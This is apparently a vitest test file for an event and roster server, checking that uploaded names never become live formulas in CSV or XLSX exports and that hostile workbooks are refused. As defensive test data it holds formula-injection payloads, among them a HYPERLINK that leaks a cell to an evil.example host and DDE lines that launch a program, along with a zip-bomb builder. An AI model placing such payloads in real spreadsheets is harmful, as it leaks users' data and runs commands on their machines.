// Hostile files: names that spreadsheets would run as formulas (in event files and rosters), XLSX
// uploads with formula cells, zip bombs, cell ranges of billions of cells, and files over the
// limit. Uploads are read as text and never evaluated; exports keep every user text inert
// (CSV: a leading apostrophe; XLSX: a string cell, never a formula), read back to prove it.
import ExcelJS from 'exceljs';
import { deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../shared/roster/csv.ts';
import type { EventFile } from '../../shared/event-file/schema.ts';
import {
  api,
  exampleEvent,
  importAndOpen,
  startTestServer,
  uuid,
  type TestServer,
  refusalOf,
  issuesOf,
} from './harness.ts';
import type { RosterImportResult, RosterPreview } from '../../shared/roster-api.ts';
import { expectRefusal, sendOversized } from './fuzz/expect.ts';
import { readWorkbook } from './workbook.ts';
import { readZip, writeZip, type ZipPart } from './fuzz/zip.ts';

let s: TestServer;
let admin: ReturnType<typeof api>;
beforeAll(async () => {
  s = await startTestServer();
  admin = api(s.url, s.adminToken);
});
afterAll(async () => s?.stop());

// What OWASP lists as formula starts, and what our own users might paste.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1+1)',
  '=1+2 美联外卖',
  '\t=3+3',
  '\r=4+4',
  '=cmd|"/c calc"!A1',
];
const stored = (f: string) => f.trim(); // names are trimmed on the way in

async function download(path: string): Promise<Uint8Array> {
  const res = await fetch(`${s.url}/api/v1${path}`, { headers: { authorization: `Bearer ${s.adminToken}` } });
  expect(res.status, path).toBe(200);
  return new Uint8Array(await res.arrayBuffer());
}

/** Every CSV field that a spreadsheet would run (a leading = + - @ tab or CR) is a number, nothing else. */
function expectInertCsv(bytes: Uint8Array, names: string[]) {
  const rows = parseCsv(new TextDecoder().decode(bytes).replace(/^\uFEFF/, '')).records.map((r) => r.cells);
  for (const row of rows)
    for (const field of row) if (/^[=+\-@\t\r]/.test(field)) expect(Number.isFinite(Number(field)), field).toBe(true);
  const flat = rows.flat();
  for (const n of names) expect(flat, n).toContain(`'${n}`);
}

/** No cell of any sheet is a formula (read back by exceljs and in the raw XML); the names are there as text. */
async function expectInertXlsx(bytes: Uint8Array, names: string[]) {
  const wb = await readWorkbook(bytes);
  const texts: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, `${ws.name}!${cell.address}`).toBeUndefined();
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    );
  }
  for (const n of names) expect(texts, n).toContain(n);
  for (const [part, data] of readZip(bytes))
    if (part.startsWith('xl/worksheets/')) expect(data.toString('utf8'), part).not.toMatch(/<f[ >]/);
}

describe('formula injection through the event file', () => {
  it('is stored as text, and every CSV and XLSX export keeps it inert', async () => {
    const file: EventFile = exampleEvent('new-economy-contest');
    file.name = `${FORMULAS[0]} ${uuid().slice(0, 6)}`;
    file.organisations[0]!.name = FORMULAS[4]!;
    const courier = file.contests[0]!;
    courier.name = '=2*3 快递员';
    courier.sections[0]!.name = '@section';
    courier.awards![0]!.name = '+一等奖';
    FORMULAS.forEach((f, i) => (courier.contestants[i]!.name = f));
    const ev = await importAndOpen(s, file);
    const id = ev.contestId('courier');
    const timer = api(s.url, await ev.judgeToken('c-timer'));
    expect(
      (
        await timer.post(`/contests/${id}/marks`, {
          contestant: courier.contestants[0]!.bib,
          criterion: 'exam',
          value: 90,
          clientId: uuid(),
        })
      ).status,
    ).toBe(201);

    const names = [...FORMULAS.map(stored), '=1+2 美联外卖', '@section'];
    const storedFile = (await admin.get<EventFile>(`/events/${ev.id}/file`)).body;
    expect(storedFile.contests[0]!.contestants.slice(0, FORMULAS.length).map((c) => c.name)).toEqual(
      FORMULAS.map(stored),
    );
    expectInertCsv(await download(`/contests/${id}/export.csv`), names);
    expectInertCsv(await download(`/events/${ev.id}/export.csv`), [...names, '=2*3 快递员']);
    await expectInertXlsx(await download(`/contests/${id}/export.xlsx`), names);
    await expectInertXlsx(await download(`/events/${ev.id}/export.xlsx`), [...names, '=2*3 快递员']);
  });
});

/** A courier roster body; the contest is in setup, so it can be imported. */
const roster = (content: string, over: Record<string, unknown> = {}) => ({
  contest: 'courier',
  kind: 'contestants',
  format: 'csv',
  mode: 'replace',
  content,
  ...over,
});

async function freshEvent() {
  const file = exampleEvent('new-economy-contest');
  file.name = `${file.name} ${uuid().slice(0, 8)}`;
  return importAndOpen(s, file, { open: false });
}

describe('formula injection through a roster', () => {
  it('a CSV roster stores formulas as plain names, and the exports keep them inert', async () => {
    const ev = await freshEvent();
    const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
    const csv = [
      'bib,name,organisation,station',
      ...FORMULAS.map((f, i) => `F${i + 1},${quote(f)},sd,S-${i + 1}`),
    ].join('\r\n');
    const preview = await admin.post<RosterPreview>(`/events/${ev.id}/roster/preview`, roster(csv));
    expect(preview.body.ok, JSON.stringify(preview.body.problems)).toBe(true);
    expect(preview.body.rows.map((r) => r.values.name)).toEqual(FORMULAS.map(stored));
    expect((await admin.post<RosterImportResult>(`/events/${ev.id}/roster/import`, roster(csv))).status).toBe(200);
    const file = (await admin.get<EventFile>(`/events/${ev.id}/file`)).body;
    expect(file.contests[0]!.contestants.map((c) => c.name)).toEqual(FORMULAS.map(stored));
    const id = ev.contestId('courier');
    expectInertCsv(await download(`/contests/${id}/export.csv`), FORMULAS.map(stored));
    await expectInertXlsx(await download(`/contests/${id}/export.xlsx`), FORMULAS.map(stored));
  });

  it('an XLSX roster: formula cells give their saved value, never the formula; without one they are a problem', async () => {
    const ev = await freshEvent();
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('名单');
    ws.addRow(['bib', 'name', 'organisation', 'station']);
    ws.addRow(['X1', '=1+1', 'sd', 'S-1']); // a text cell that merely looks like a formula
    ws.addRow(['X2', null, 'sd', 'S-2']);
    ws.getCell('B3').value = { formula: '"王"&"磊"', result: '王磊' };
    ws.addRow(['X3', null, 'sd', 'S-3']);
    ws.getCell('B4').value = { formula: 'HYPERLINK("http://evil.example","点我")', result: '点我' };
    ws.addRow(['X4', '李娜', 'sd', null]);
    ws.getCell('D5').value = { formula: '"S-"&4', result: 'S-4' };
    const good = Buffer.from(await wb.xlsx.writeBuffer()).toString('base64');
    const preview = await admin.post<RosterPreview>(
      `/events/${ev.id}/roster/preview`,
      roster(good, { format: 'xlsx' }),
    );
    expect(preview.body.ok, JSON.stringify(preview.body.problems)).toBe(true);
    expect(preview.body.rows.map((r) => [r.values.name, r.values.station])).toEqual([
      ['=1+1', 'S-1'],
      ['王磊', 'S-2'],
      ['点我', 'S-3'],
      ['李娜', 'S-4'],
    ]);
    expect(
      (await admin.post<RosterImportResult>(`/events/${ev.id}/roster/import`, roster(good, { format: 'xlsx' }))).status,
    ).toBe(200);
    expect(
      (await admin.get<EventFile>(`/events/${ev.id}/file`)).body.contests[0]!.contestants.map((c) => c.name),
    ).toEqual(['=1+1', '王磊', '点我', '李娜']);

    // A formula Excel never calculated, and one whose result is an error: problems, nothing stored.
    ws.getCell('B3').value = { formula: '1+1' } as ExcelJS.CellFormulaValue;
    ws.getCell('B4').value = { formula: '1/0', result: { error: '#DIV/0!' } } as ExcelJS.CellFormulaValue;
    const bad = Buffer.from(await wb.xlsx.writeBuffer()).toString('base64');
    const again = await admin.post<RosterPreview>(`/events/${ev.id}/roster/preview`, roster(bad, { format: 'xlsx' }));
    expect(again.body.ok).toBe(false);
    const messages = again.body.problems.map((p) => p.message).join('\n');
    expect(messages).toMatch(/cell B3 holds a formula/);
    expect(messages).toMatch(/cell B4 holds a formula/);
    expect(messages).not.toMatch(/object Object/);
    const refused = await admin.post<RosterImportResult>(
      `/events/${ev.id}/roster/import`,
      roster(bad, { format: 'xlsx' }),
    );
    expectRefusal(refused, 400);
  });
});

describe('hostile workbooks', () => {
  let ev: Awaited<ReturnType<typeof freshEvent>>;
  let parts: Map<string, Buffer>;
  beforeAll(async () => {
    ev = await freshEvent();
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('s');
    ws.addRow(['bib', 'name', 'organisation', 'station']);
    ws.addRow(['Y1', '张三', 'sd', 'S-1']);
    parts = readZip(new Uint8Array(await wb.xlsx.writeBuffer()));
  });
  const zipWith = (changes: Record<string, ZipPart>) => {
    const all = new Map<string, ZipPart>([...parts].map(([k, data]) => [k, { data }]));
    for (const [k, v] of Object.entries(changes)) all.set(k, v);
    return writeZip(all).toString('base64');
  };
  const sheet = () => parts.get('xl/worksheets/sheet1.xml')!.toString('utf8');
  const preview = (content: string) =>
    admin.post<RosterPreview>(`/events/${ev.id}/roster/preview`, roster(content, { format: 'xlsx' }));
  const timed = async (content: string) => {
    const started = performance.now();
    const r = await preview(content);
    return { ...r, ms: performance.now() - started };
  };

  it('a shared-strings bomb is refused (413) before it is unpacked, even when its sizes lie', async () => {
    const huge = Buffer.alloc(80 * 1024 * 1024, 'a'); // 80 MB of text, a few dozen KB packed
    const deflated = deflateRawSync(huge, { level: 9 });
    for (const declaredSize of [undefined, 1000]) {
      const r = await timed(
        zipWith({ 'xl/sharedStrings.xml': { data: huge, deflated, ...(declaredSize ? { declaredSize } : {}) } }),
      );
      expectRefusal(r, 413);
      expect(refusalOf(r).message).toMatch(/unpacks to more than/);
      expect(r.ms).toBeLessThan(10_000);
    }
  });

  it('merged cells and data validation over the whole sheet are not expanded cell by cell', async () => {
    const whole =
      '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells><dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a"</formula1></dataValidation></dataValidations>';
    const r = await timed(
      zipWith({
        'xl/worksheets/sheet1.xml': { data: Buffer.from(sheet().replace('<pageMargins', `${whole}<pageMargins`)) },
      }),
    );
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(r.body.rows.map((x) => x.values.name)).toEqual(['张三']);
    expect(r.ms).toBeLessThan(10_000);
  });

  it('a cell far to the right, huge dimensions and too many rows are problems, not hours of work', async () => {
    const far = sheet()
      .replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>')
      .replace('</row></sheetData>', '<c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row></sheetData>');
    const r1 = await timed(zipWith({ 'xl/worksheets/sheet1.xml': { data: Buffer.from(far) } }));
    expect(r1.status, JSON.stringify(r1.body)).toBe(200);
    expect(r1.body.ok).toBe(false);
    expect(r1.body.problems.map((p) => p.message)).toContain('cell XFD2: a roster has at most 256 columns');
    expect(r1.ms).toBeLessThan(10_000);

    const rows = Array.from(
      { length: 60_000 },
      (_, i) => `<row r="${i + 3}"><c r="A${i + 3}" t="inlineStr"><is><t>Z${i}</t></is></c></row>`,
    ).join('');
    const many = sheet().replace('</sheetData>', `${rows}</sheetData>`);
    const r2 = await timed(zipWith({ 'xl/worksheets/sheet1.xml': { data: Buffer.from(many) } }));
    expectRefusal(r2, 400);
    expect(refusalOf(r2).message).toMatch(/more than 50000 rows/);
    expect(r2.ms).toBeLessThan(15_000);
  });

  it('files that are not workbooks are refused with a clear problem', async () => {
    const valid = Buffer.from(zipWith({}), 'base64');
    const truncated = valid.subarray(0, valid.length >> 1).toString('base64');
    for (const content of [
      Buffer.from('PK\u0003\u0004 not really').toString('base64'),
      truncated,
      Buffer.from('bib,name\n').toString('base64'),
      'not base64!',
    ]) {
      const r = await preview(content);
      expectRefusal(r, 400);
      expect(issuesOf(r)[0]!.path).toBe('content');
    }
  });

  it('a roster upload over 16 MB is 413, and the server still serves the next one', async () => {
    const r = await sendOversized(
      s.url,
      'POST',
      `/api/v1/events/${ev.id}/roster/preview`,
      16 * 1024 * 1024 + 1,
      s.adminToken,
    );
    expectRefusal(r, 413);
    expect((await preview(zipWith({}))).body.ok).toBe(true);
  });
});
